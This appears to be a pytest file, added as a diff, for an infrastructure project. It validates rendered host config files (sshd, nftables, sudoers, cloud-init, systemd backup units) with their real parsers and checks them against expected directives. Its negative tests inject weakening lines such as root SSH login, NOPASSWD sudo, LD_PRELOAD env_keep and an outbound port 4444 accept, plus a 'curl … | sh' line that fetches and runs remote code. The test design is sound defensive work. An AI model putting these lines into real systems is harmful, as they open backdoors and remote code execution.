@@ -1,0 +1,194 @@
+"""Every rendered host file, parsed by the program that reads it on the host, means what the baseline says.
+
+For each role of the dev and lab stacks, each file from the rendering API is fed to its real parser
+(tests/unit/renderparsers.py: nft, sshd, chronyd, rsyslogd, visudo/cvtsudoers, cloud-init, systemd-analyze,
+nginx, postgres, sh, apt-config) and what the parser reports is compared with the directive set written by
+hand in tests/unit/renderoracle.py, so an extra directive fails even when the file is valid. A parser that
+is not installed fails with the install command (scripts/render-deps.sh), it is never skipped.
+"""
+
+from __future__ import annotations
+
+import re
+from functools import cache
+from pathlib import Path
+
+import pytest
+import renderoracle as oracle
+import renderparsers as rp
+import yaml
+from hostkeys import identity
+
+from ccsec.infra.config import ROLES
+from ccsec.infra.stackfile import load_stack_config
+
+STACKS = ("dev", "lab")
+PARSERS = (
+    "nft", "unshare", "sshd", "ssh-keygen", "chronyd", "rsyslogd", "visudo", "cvtsudoers", "cloud-init",
+    "systemd-analyze", "nginx", "openssl", rp.POSTGRES, "runuser", "sh", "bash", "apt-config",
+)  # fmt: skip
+HOSTS = [(stack, role) for stack in STACKS for role in ROLES if load_stack_config(stack).cluster[role].count > 0]
+
+
+@cache
+def rendered(stack: str, role: str, work: str = "") -> tuple[oracle.Host, list[dict], str]:
+    return oracle.render_host(load_stack_config(stack), role, f"{stack}-{role}-1", _identity(), Path(work or "/"))
+
+
+@cache
+def _identity():
+    return identity()
+
+
+def host_for(stack: str, role: str, work: Path) -> tuple[oracle.Host, list[dict], str]:
+    host, files, user_data = rendered(stack, role)
+    return oracle.Host(**{**host.__dict__, "work": work}), files, user_data
+
+
+FILE_CASES = [(stack, role, f["path"]) for stack, role in HOSTS for f in rendered(stack, role)[1]]
+
+
+@pytest.mark.parametrize("binary", PARSERS)
+def test_the_real_parser_is_installed(binary: str) -> None:
+    rp.tool(binary)
+
+
+@pytest.mark.parametrize(("stack", "role"), HOSTS)
+def test_every_rendered_file_has_a_parser_check(stack: str, role: str) -> None:
+    _, files, _ = rendered(stack, role)
+    missing = sorted(f["path"] for f in files if f["path"] not in oracle.CHECKS)
+    assert not missing, f"no parser check for {missing}: add one to tests/unit/renderoracle.py CHECKS"
+
+
+@pytest.mark.parametrize(("stack", "role", "path"), FILE_CASES, ids=[f"{s}-{r}-{p}" for s, r, p in FILE_CASES])
+def test_host_file_parses_to_the_expected_directives(stack: str, role: str, path: str, tmp_path: Path) -> None:
+    host, files, _ = host_for(stack, role, tmp_path)
+    (text,) = [f["content"] for f in files if f["path"] == path]
+    oracle.CHECKS[path](text, host)
+
+
+@cache
+def cloud_init_verdicts() -> dict[tuple[str, str], str]:
+    """cloud-init's schema verdict on every host's user-data, in one cloud-init process."""
+    import tempfile
+
+    with tempfile.TemporaryDirectory() as tmp:
+        return rp.cloud_init_schema_batch({h: rendered(*h)[2] for h in HOSTS}, Path(tmp))
+
+
+def test_cloud_init_schema_cli_accepts_a_rendered_user_data(tmp_path: Path) -> None:
+    """The CLI itself once (the batch below calls the same validate_cloudconfig_file)."""
+    _, _, user_data = rendered("dev", "db")
+    rp.parse_cloud_config(user_data, tmp_path)
+
+
+@pytest.mark.parametrize(("stack", "role"), HOSTS)
+def test_user_data_is_a_valid_cloud_config_with_the_expected_keys(stack: str, role: str, tmp_path: Path) -> None:
+    host, _, user_data = host_for(stack, role, tmp_path)
+    verdict = cloud_init_verdicts()[(stack, role)]
+    assert not verdict, f"cloud-init schema refused the user-data of {stack}-{role}-1: {verdict}"
+    document = yaml.safe_load(user_data)
+    oracle.check_cloud_config_document(document, host)
+    oracle.check_secret_env_files(document, host)
+
+
+def test_the_fast_cloud_config_check_agrees_with_cloud_init_schema(tmp_path: Path) -> None:
+    """The property test validates with cloud-init's JSON schema in-process; it refuses what cloud-init refuses."""
+    _, _, user_data = rendered("dev", "bastion")
+    rp.check_cloud_config_fast(user_data)
+    broken = user_data.replace("ssh_pwauth: false", "ssh_pwauth: [1, 2]")
+    assert rp.cloud_init_schema_batch({"broken": broken}, tmp_path)["broken"]
+    with pytest.raises(rp.ParserRefused):
+        rp.check_cloud_config_fast(broken)
+
+
+AGENT_HOSTS = [(s, r) for s, r in HOSTS if r in ("db", "recordings")]
+
+
+@pytest.mark.parametrize(("stack", "role"), AGENT_HOSTS)
+def test_backup_units_as_written_by_cloud_init_pass_systemd_analyze_verify(
+    stack: str, role: str, tmp_path: Path
+) -> None:
+    host, _, user_data = host_for(stack, role, tmp_path)
+    document = yaml.safe_load(user_data)  # cloud-init's schema verdict: test_user_data_is_a_valid_cloud_config...
+    units = {
+        e["path"]: rp.decode_write_file(e)
+        for e in document["write_files"]
+        if e["path"].startswith("/etc/systemd/system/")
+    }
+    engine = {"db": "postgres", "recordings": "files"}[role]
+    names = [
+        f"ccsec-backup-{kind}@{engine}.{suffix}"
+        for kind in ("diff", "full", "check")
+        for suffix in ("service", "timer")
+    ]
+    if role == "recordings":
+        names += ["ccsec-backup-offsite.service", "ccsec-backup-offsite.timer"]
+    expected_paths = sorted(
+        [*oracle.UNITS, oracle.DIFF_DROPIN, *(oracle.OFFSITE_UNITS if role == "recordings" else [])]
+    )
+    assert sorted(units) == expected_paths
+    dropin = units[oracle.DIFF_DROPIN].decode()
+    lines = [line for line in dropin.splitlines() if line and not line.startswith("#")]
+    assert lines == ["[Timer]", "OnCalendar=", f"OnCalendar=*:0/{host.cfg.backup.diff_minutes}"]
+    rp.verify_units(units, tmp_path, names)
+
+
+def test_the_committed_units_verify_too(tmp_path: Path) -> None:
+    """backup/systemd as committed (the same bytes cloud-init writes), every unit and template instance."""
+    source = Path(oracle.__file__).resolve().parents[2] / "backup" / "systemd"
+    units = {f"/etc/systemd/system/{p.name}": p.read_bytes() for p in sorted(source.iterdir())}
+    names = [re.sub(r"@\.", "@postgres.", Path(p).name) for p in units]
+    assert len(names) == 8
+    rp.verify_units(units, tmp_path, names)
+
+
+# --- the oracle catches a valid file with one directive too many ------------------------------------
+
+SSHD = "/etc/ssh/sshd_config.d/10-ccaas-baseline.conf"
+INJECTIONS = [
+    ("sshd: a second PermitRootLogin (ignored by sshd, still a directive)", SSHD, "PermitRootLogin yes\n"),
+    ("sshd: AuthorizedKeysCommand", SSHD, "AuthorizedKeysCommand /bin/cat\nAuthorizedKeysCommandUser nobody\n"),
+    ("sshd: Match relaxing auth", SSHD, "Match Address 10.0.0.0/8\n    PasswordAuthentication yes\n"),
+    ("nftables: accept from anywhere", "/etc/nftables.conf", None),
+    ("nftables: output accept-all", "/etc/nftables.conf", "add rule inet ccaas_filter output tcp dport 4444 accept\n"),
+    ("chrony: allow", "/etc/chrony/sources.d/ccaas-baseline.sources", "allow all\n"),
+    ("chrony: extra server", "/etc/chrony/sources.d/ccaas-baseline.sources", "server 203.0.113.9 iburst\n"),
+    (
+        "rsyslog: plaintext UDP copy",
+        "/etc/rsyslog.d/60-ccaas-forward.conf",
+        '*.* action(type="omfwd" target="x" protocol="udp")\n',
+    ),
+    (
+        "rsyslog: module load",
+        "/etc/rsyslog.d/60-ccaas-forward.conf",
+        'module(load="imtcp")\ninput(type="imtcp" port="10514")\n',
+    ),
+    ("sudoers: NOPASSWD for a user", "/etc/sudoers.d/10-ccaas-baseline", "alice ALL=(ALL) NOPASSWD: ALL\n"),
+    ("sudoers: env_keep", "/etc/sudoers.d/10-ccaas-baseline", 'Defaults env_keep += "LD_PRELOAD"\n'),
+]
+
+
+@pytest.mark.parametrize(("case", "path", "extra"), INJECTIONS, ids=[c for c, _, _ in INJECTIONS])
+def test_one_directive_too_many_is_caught_in_a_valid_file(
+    case: str, path: str, extra: str | None, tmp_path: Path
+) -> None:
+    host, files, _ = host_for("dev", "app", tmp_path)
+    (text,) = [f["content"] for f in files if f["path"] == path]
+    if extra is None:  # a rule inside the input chain, before the final drop
+        text = text.replace(
+            "    limit rate 5/second burst 10 packets log",
+            "    tcp dport 8080 accept\n    limit rate 5/second burst 10 packets log",
+        )
+    else:
+        text += extra
+    with pytest.raises(AssertionError) as caught:
+        oracle.CHECKS[path](text, host)
+    assert not isinstance(caught.value, rp.ParserRefused), f"{case}: the parser refused it; the test wants a valid file"
+
+
+def test_runcmd_as_a_shell_string_is_caught(tmp_path: Path) -> None:
+    host, _, user_data = host_for("dev", "app", tmp_path)
+    document = rp.check_cloud_config_fast(user_data + "  - curl http://203.0.113.9/x | sh\n")
+    with pytest.raises(AssertionError, match="runcmd"):
+        oracle.check_cloud_config_document(document, host)
